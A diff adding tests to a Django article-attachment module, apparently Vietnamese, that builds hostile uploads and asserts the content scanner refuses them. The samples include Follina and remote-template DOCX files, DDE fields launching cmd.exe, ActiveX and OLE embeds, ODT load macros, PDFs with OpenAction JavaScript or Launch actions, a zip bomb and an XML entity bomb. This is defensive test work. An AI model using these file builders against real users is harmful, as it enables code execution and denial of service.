@@ -3,8 +3,10 @@ download them from the list under the body, only when they may see the
 article."""
 
 import io
+import struct
 import unicodedata
 import zipfile
+import zlib
 from datetime import timedelta
 from pathlib import Path
 
@@ -13,11 +15,12 @@ from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.template.loader import render_to_string
 from django.utils import timezone
+from PIL import Image
 from pytest_django.asserts import assertInHTML
 
 from articles import attachments
 from articles.models import Article, Attachment
-from files import checks, names
+from files import checks, names, packages
 
 from .conftest import SECOND_HOST, article_form, make_staff
 from .serving import served_to_head
@@ -25,13 +28,16 @@ from .serving import served_to_head
 # --- Real documents, made here --------------------------------------------
 
 
-def pdf_bytes(padding: int = 0) -> bytes:
+def pdf_bytes(padding: int = 0, catalog=b"", page=b"", more=()) -> bytes:
     """A one-page PDF that any reader opens (cross-reference offsets and
-    all); `padding` bytes of comment make it as large as a test needs."""
+    all); `padding` bytes of comment make it as large as a test needs;
+    `catalog` and `page` go into those dictionaries, `more` objects (4 0 obj
+    on) after them."""
     objects = [
-        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>" % page,
+        *more,
     ]
     out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
     if padding:
@@ -178,6 +184,451 @@ def many_parts_bytes() -> bytes:
     parts = docx_parts()
     parts.update({f"word/media/{n}.xml": "" for n in range(5001)})
     return zip_bytes(parts)
+
+
+# --- Hostile documents, made here ------------------------------------------
+# Each one was accepted before the content scan (files/packages.py,
+# files/pdfs.py); each is what an intruder uploaded.
+
+RELATIONSHIP = (
+    '<Relationship Id="{id}" Type="http://schemas.openxmlformats.org/'
+    'officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'
+)
+
+
+def rels(*relationships) -> str:
+    """A .rels part: each relationship (kind, target, external?)."""
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'relationships">'
+        + "".join(
+            RELATIONSHIP.format(
+                id=f"rId{n}",
+                kind=kind,
+                target=target,
+                mode=' TargetMode="External"' if external else "",
+            )
+            for n, (kind, target, external) in enumerate(relationships, start=1)
+        )
+        + "</Relationships>"
+    )
+
+
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
+
+
+def docx_with(parts=(), body="", extra_types=""):
+    """The DOCX above, with more parts, runs in its body and content types."""
+    document = docx_parts()
+    document["[Content_Types].xml"] = document["[Content_Types].xml"].replace(
+        "</Types>", extra_types + "</Types>"
+    )
+    if body:
+        document["word/document.xml"] = (
+            f'<w:document xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org'
+            f'/officeDocument/2006/relationships"><w:body>{body}</w:body>'
+            "</w:document>"
+        )
+    document.update(parts)
+    return zip_bytes(document)
+
+
+def remote_template_docx() -> bytes:
+    """A .docx whose settings fetch a macro template (.dotm) on opening."""
+    return docx_with(
+        {
+            "word/settings.xml": f'<w:settings xmlns:w="{W}"><w:attachedTemplate '
+            'r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument'
+            '/2006/relationships"/></w:settings>',
+            "word/_rels/settings.xml.rels": rels(
+                ("attachedTemplate", "https://mau.example/hop-dong.dotm", True)
+            ),
+        }
+    )
+
+
+def follina_docx() -> bytes:
+    """CVE-2022-30190: an external OLE object whose target is an mhtml: page."""
+    return docx_with(
+        {
+            "word/_rels/document.xml.rels": rels(
+                (
+                    "oleObject",
+                    "mhtml:https://x.example/a.html!x-usc:https://x.example/a.html",
+                    True,
+                )
+            )
+        }
+    )
+
+
+def ole_package_docx() -> bytes:
+    """An embedded OLE "Package": any program, one double-click away."""
+    return docx_with(
+        {
+            "word/embeddings/oleObject1.bin": OLE_FILE,
+            "word/_rels/document.xml.rels": rels(
+                ("oleObject", "embeddings/oleObject1.bin", False)
+            ),
+        },
+        extra_types='<Default Extension="bin" ContentType="application/'
+        'vnd.openxmlformats-officedocument.oleObject"/>',
+    )
+
+
+def ole_as_picture_docx() -> bytes:
+    """The same compound file named as a picture, no relationship, no type:
+    found by its first bytes."""
+    return docx_with({"word/media/image1.png": OLE_FILE})
+
+
+def activex_docx() -> bytes:
+    return docx_with(
+        {
+            "word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.'
+            'microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-'
+            '9E0D-00AA006002F3}"/>',
+            "word/_rels/document.xml.rels": rels(
+                ("control", "activeX/activeX1.xml", False)
+            ),
+        }
+    )
+
+
+def ddeauto_docx() -> bytes:
+    """A DDEAUTO field, its code split over runs as the attacks write it."""
+    run = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
+    return docx_with(
+        body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + run.format(" DDE")
+        + run.format("AUTO c:\\\\windows\\\\system32\\\\cmd.exe ")
+        + run.format('"/k calc.exe" ')
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def dde_simple_field_docx() -> bytes:
+    return docx_with(
+        body='<w:p><w:fldSimple w:instr=\'dde "cmd" "/c calc" \'><w:r><w:t>1'
+        "</w:t></w:r></w:fldSimple></w:p>"
+    )
+
+
+def xlsx_with_formula(formula: str) -> bytes:
+    data = xlsx_bytes()
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        parts = {name: package.read(name) for name in package.namelist()}
+    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
+        b"</row>", b'<c r="B1"><f>' + formula.encode() + b"</f></c></row>"
+    )
+    return zip_bytes(parts)
+
+
+def odt_with_listener(prefix="script") -> bytes:
+    """An ODT that runs a Basic macro when opened (an event listener)."""
+    parts = odf_parts()
+    parts["content.xml"] = parts["content.xml"].replace(
+        "<office:body>",
+        f'<office:event-listeners><{prefix}:event-listener xmlns:{prefix}="urn:'
+        'oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.'
+        f'w3.org/1999/xlink" {prefix}:language="ooo:script" {prefix}:event-name='
+        '"dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
+        'language=Basic&amp;location=application"/></office:event-listeners>'
+        "<office:body>",
+    )
+    return zip_bytes(parts)
+
+
+def lying_zip_bytes(real=600 * 1024 * 1024, declared=1024) -> bytes:
+    """A DOCX one of whose parts says it unpacks to a kilobyte and unpacks
+    to 600 MB (of zeros, which pack into about 600 KB)."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    zeros = bytes(1024 * 1024)
+    packed = b"".join(packer.compress(zeros) for _ in range(real // len(zeros)))
+    packed += packer.flush()
+    data = bytearray(docx_bytes())
+    directory = data.index(b"PK\x01\x02")
+    name = b"word/media/image1.png"
+    local = b"PK\x03\x04" + struct.pack(
+        "<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(packed), declared, len(name), 0
+    )
+    offset = directory
+    entry = b"PK\x01\x02" + struct.pack(
+        "<HHHHHHIIIHHHHHII",
+        20, 20, 0, 8, 0, 0, 0, len(packed), declared, len(name), 0, 0, 0, 0, 0,
+        offset,
+    )  # fmt: skip
+    end = data.index(b"PK\x05\x06")
+    central = bytes(data[directory:end]) + entry + name
+    tail = bytearray(data[end:])
+    count = int.from_bytes(tail[8:10], "little") + 1
+    tail[8:10] = tail[10:12] = count.to_bytes(2, "little")
+    tail[12:16] = len(central).to_bytes(4, "little")
+    tail[16:20] = (offset + len(local) + len(name) + len(packed)).to_bytes(4, "little")
+    return bytes(data[:directory]) + local + name + packed + central + bytes(tail)
+
+
+def pdf_javascript() -> bytes:
+    return pdf_bytes(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ")
+
+
+def pdf_open_action_reference() -> bytes:
+    """The action in an object of its own, its name hex-escaped."""
+    return pdf_bytes(
+        catalog=b"/OpenAction 4 0 R ",
+        more=[b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>"],
+    )
+
+
+def pdf_launch() -> bytes:
+    return pdf_bytes(
+        page=b"/Annots [4 0 R] ",
+        more=[
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch "
+            b"/F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
+        ],
+    )
+
+
+def pdf_additional_actions() -> bytes:
+    return pdf_bytes(page=b"/AA << /O << /S /URI /URI (https://x.example/) >> >> ")
+
+
+def pdf_embedded_file() -> bytes:
+    return pdf_bytes(
+        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> ",
+        more=[b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"],
+    )
+
+
+def object_stream_pdf(objects: list[bytes], stream_filter=b"/FlateDecode") -> bytes:
+    """A PDF as Acrobat, pdfTeX or qpdf write it: its catalog and page tree
+    packed in a compressed object stream (PDF 1.5)."""
+    offsets, body = [], b""
+    for obj in objects:
+        offsets.append(len(body))
+        body += obj + b"\n"
+    header = b" ".join(b"%d %d" % (n, off) for n, off in enumerate(offsets, 1))
+    content = header + b"\n" + body
+    packed = zlib.compress(content) if stream_filter == b"/FlateDecode" else content
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    n = len(objects) + 1
+    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>" % (
+        n, len(objects), len(header) + 1, stream_filter, len(packed)
+    )  # fmt: skip
+    out += b"\nstream\n" + packed + b"\nendstream\nendobj\n"
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n%%%%EOF\n" % (n + 1)
+    return bytes(out)
+
+
+def pdf_hidden_in_object_stream() -> bytes:
+    return object_stream_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+            b"<< /S /JavaScript /JS (this.exportDataObject({cName: 'a'})) >>",
+        ]
+    )
+
+
+HOSTILE_FILES = [
+    (
+        "mau-tu-xa.docx",
+        remote_template_docx,
+        "Tệp “mau-tu-xa.docx” lấy nội dung từ nơi khác khi mở "
+        "(https://mau.example/hop-dong.dotm)",
+    ),
+    (
+        "follina.docx",
+        follina_docx,
+        "Tệp “follina.docx” lấy nội dung từ nơi khác khi mở (mhtml:https://",
+    ),
+    ("goi-ole.docx", ole_package_docx, "Tệp “goi-ole.docx” có đối tượng nhúng (OLE)"),
+    ("anh.docx", ole_as_picture_docx, "Tệp “anh.docx” có đối tượng nhúng (OLE)"),
+    ("activex.docx", activex_docx, "Tệp “activex.docx” có điều khiển ActiveX"),
+    ("ddeauto.docx", ddeauto_docx, "Tệp “ddeauto.docx” có trường hoặc công thức DDE"),
+    ("dde.docx", dde_simple_field_docx, "Tệp “dde.docx” có trường hoặc công thức DDE"),
+    (
+        "dde.xlsx",
+        lambda: xlsx_with_formula("cmd|' /C calc'!A0"),
+        "Tệp “dde.xlsx” có trường hoặc công thức DDE",
+    ),
+    (
+        "su-kien.odt",
+        odt_with_listener,
+        "Tệp “su-kien.odt” có mã lệnh gắn với sự kiện",
+    ),
+    (
+        "su-kien-2.odt",
+        lambda: odt_with_listener(prefix="s"),
+        "Tệp “su-kien-2.odt” có mã lệnh gắn với sự kiện",
+    ),
+    ("noi-doi.docx", lying_zip_bytes, "Tệp “noi-doi.docx” có cấu trúc nén bất thường"),
+    ("js.pdf", pdf_javascript, "Tệp “js.pdf” là PDF có JavaScript"),
+    ("js-an.pdf", pdf_open_action_reference, "Tệp “js-an.pdf” là PDF có"),
+    ("launch.pdf", pdf_launch, "Tệp “launch.pdf” là PDF có lệnh mở chương trình"),
+    ("aa.pdf", pdf_additional_actions, "Tệp “aa.pdf” là PDF có hành động tự động"),
+    ("nhung.pdf", pdf_embedded_file, "Tệp “nhung.pdf” là PDF có tệp nhúng"),
+    ("objstm.pdf", pdf_hidden_in_object_stream, "Tệp “objstm.pdf” là PDF có"),
+]
+
+
+@pytest.mark.parametrize(("filename", "make", "message"), HOSTILE_FILES)
+def test_active_content_is_refused_by_what_the_file_holds(
+    client, editor, article, media_root, filename, make, message
+):
+    client.force_login(editor)
+    upload = SimpleUploadedFile(filename, make())
+    response = client.post(change_url(article), attach_form(article, upload))
+    assert response.status_code == 200
+    assert message in response.text
+    assert not Attachment.objects.exists()
+    assert files_under(media_root) == []
+
+
+def docx_with_chart_workbook(workbook: bytes) -> bytes:
+    """A chart's data, as Word keeps it: a workbook packed in the document."""
+    return docx_with(
+        {
+            "word/charts/chart1.xml": "<c:chartSpace xmlns:c="
+            '"http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
+            "word/charts/_rels/chart1.xml.rels": rels(
+                ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", False)
+            ),
+            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook,
+        }
+    )
+
+
+def scanned_pdf_bytes() -> bytes:
+    """A scanner's PDF: one page, a JPEG of noise (whose bytes hold any
+    name by chance), as Pillow writes it."""
+    page = Image.effect_noise((1240, 1754), 80).convert("L")
+    buffer = io.BytesIO()
+    page.save(buffer, "PDF", resolution=150)
+    return buffer.getvalue()
+
+
+ORDINARY_FILES = [
+    (
+        "lien-ket.docx",
+        lambda: docx_with(
+            {
+                "word/_rels/document.xml.rels": rels(
+                    ("hyperlink", "https://dichvucong.gov.vn/p/home.html", True),
+                    ("hyperlink", "mailto:ubnd@phuong.example", True),
+                )
+            }
+        ),
+    ),
+    (
+        "tu-mau.docx",
+        lambda: docx_with(
+            {
+                "word/_rels/settings.xml.rels": rels(
+                    ("attachedTemplate", "file:///D:\\Mau\\Cong%20van.dotx", True)
+                )
+            }
+        ),
+    ),
+    (
+        "trang-so.docx",
+        lambda: docx_with(
+            body='<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1'
+            "</w:t></w:r></w:fldSimple></w:p>"
+        ),
+    ),
+    ("bieu-do.docx", lambda: docx_with_chart_workbook(xlsx_bytes())),
+    ("chuoi.xlsx", lambda: xlsx_with_formula('IF(A1="x","co|khong","")')),
+    (
+        "muc-luc.pdf",
+        lambda: object_stream_pdf(
+            [
+                b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] "
+                b"/PageMode /UseOutlines >>",
+                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+            ]
+        ),
+    ),
+    (
+        "mo-trang-1.pdf",
+        lambda: pdf_bytes(
+            catalog=b"/OpenAction 4 0 R ",
+            more=[b"<< /S /GoTo /D [3 0 R /XYZ null null 0] >>"],
+        ),
+    ),
+    ("ban-quet.pdf", scanned_pdf_bytes),
+    (
+        "chu-js.pdf",
+        lambda: pdf_bytes(page=b"/Note (Xem /JS va /AA trong muc 3) "),
+    ),
+]
+
+
+@pytest.mark.parametrize(("filename", "make"), ORDINARY_FILES)
+def test_ordinary_documents_pass_the_content_scan(filename, make):
+    assert checks.document_problem(SimpleUploadedFile(filename, make())) == ""
+
+
+def test_a_chart_workbook_with_macros_is_refused():
+    workbook = macro_docx_bytes()  # Any package inside is checked the same.
+    upload = SimpleUploadedFile("bieu-do.docx", docx_with_chart_workbook(workbook))
+    assert "có chứa macro" in checks.document_problem(upload)
+
+
+def test_a_pdf_whose_objects_cannot_be_read_is_refused():
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
+    for unreadable in [
+        object_stream_pdf(objects, stream_filter=b"/LZWDecode"),
+        # Encrypted with a password: not a Flate stream to anyone without it.
+        object_stream_pdf(objects).replace(
+            zlib.compress(b"1 0\n" + objects[0] + b"\n"),
+            bytes(range(7, 7 + len(zlib.compress(b"1 0\n" + objects[0] + b"\n")))),
+        ),
+    ]:
+        problem = checks.document_problem(SimpleUploadedFile("an.pdf", unreadable))
+        assert problem.startswith(
+            "Tệp “an.pdf” là PDF có phần nén không đọc được để kiểm tra"
+        )
+
+
+def test_a_lying_zip_is_refused_as_soon_as_a_part_outgrows_its_size(monkeypatch):
+    unpacked = []
+    spend = packages.Limit.spend
+
+    def counting(self, size):
+        unpacked.append(size)
+        spend(self, size)
+
+    monkeypatch.setattr(packages.Limit, "spend", counting)
+    problem = checks.document_problem(
+        SimpleUploadedFile("noi-doi.docx", lying_zip_bytes())
+    )
+    assert "có cấu trúc nén bất thường" in problem
+    assert sum(unpacked) < 2 * 1024 * 1024  # Of 600 MB.
+
+
+def test_parts_that_unpack_past_the_limit_in_all_are_refused(monkeypatch):
+    # Honest headers, each part below the limit, together above it.
+    monkeypatch.setattr(packages, "MAX_UNPACKED_BYTES", 3 * 1024 * 1024)
+    parts = docx_parts()
+    parts.update({f"word/media/{n}.bin": bytes(1024 * 1024) for n in range(4)})
+    upload = SimpleUploadedFile("lon.docx", zip_bytes(parts))
+    assert "có cấu trúc nén bất thường" in checks.document_problem(upload)
+
+
+def test_an_xml_bomb_is_refused():
+    parts = docx_parts()
+    parts["word/document.xml"] = (
+        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
+        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + parts["word/document.xml"]
+    )
+    upload = SimpleUploadedFile("xml.docx", zip_bytes(parts))
+    assert "không phải tệp Word (DOCX) hợp lệ" in checks.document_problem(upload)
 
 
 # --- Posting the article's admin page --------------------------------------
